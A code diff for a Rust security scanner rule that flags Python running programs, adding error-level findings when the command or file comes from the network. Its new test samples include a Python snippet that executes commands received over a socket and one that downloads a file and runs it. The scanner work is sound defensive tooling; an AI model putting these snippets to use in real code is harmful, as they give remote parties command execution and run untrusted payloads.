@@ -2,7 +2,7 @@
 
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
-use crate::scan::operation::{Act, ShellUse};
+use crate::scan::operation::{Act, Origins, ShellUse};
 use crate::scan::rule::{Check, Reporter, Rule, Sample};
 
 /// The rule.
@@ -22,6 +22,14 @@ pub static RULE: Rule = Rule {
         Sample::File(
             "scripts/a.py",
             "import subprocess as sp\nfrom subprocess import Popen as P\nsp.check_output(['date'])\nP(['date'])\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import socket, subprocess\ns = socket.create_connection(('192.0.2.7', 4444))\nsubprocess.run(s.recv(1024).decode().split())\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://files.example.com/u', '/tmp/u')\nsubprocess.run(['/tmp/u'])\n",
         ),
         Sample::File(
             "scripts/a.py",
@@ -46,6 +54,7 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     for operation in super::operations(unit) {
         let Act::Execute {
             program,
+            command,
             shell: ShellUse::No,
             ..
         } = &operation.act
@@ -56,9 +65,19 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
         {
             continue;
         }
-        let raised = reporter.raise(operation.span);
-        if let Some(program) = program {
+        let raised = reporter.raise_flow(operation.span, &command.way);
+        if command.text.is_some() && command.origins.has(Origins::NETWORK) {
+            // Fixed words that came over the network: the file they name did.
+            raised
+                .message("Python runs a file that it downloads")
+                .severity(Severity::Error);
+        } else if let Some(program) = program {
             raised.message(format!("Python runs the program `{program}`"));
+        } else if command.text.is_none() && command.origins.has(Origins::NETWORK) {
+            raised
+                .message("Python runs a program that it is told over the network")
+                .severity(Severity::Error)
+                .confidence(Confidence::Medium);
         }
     }
 }
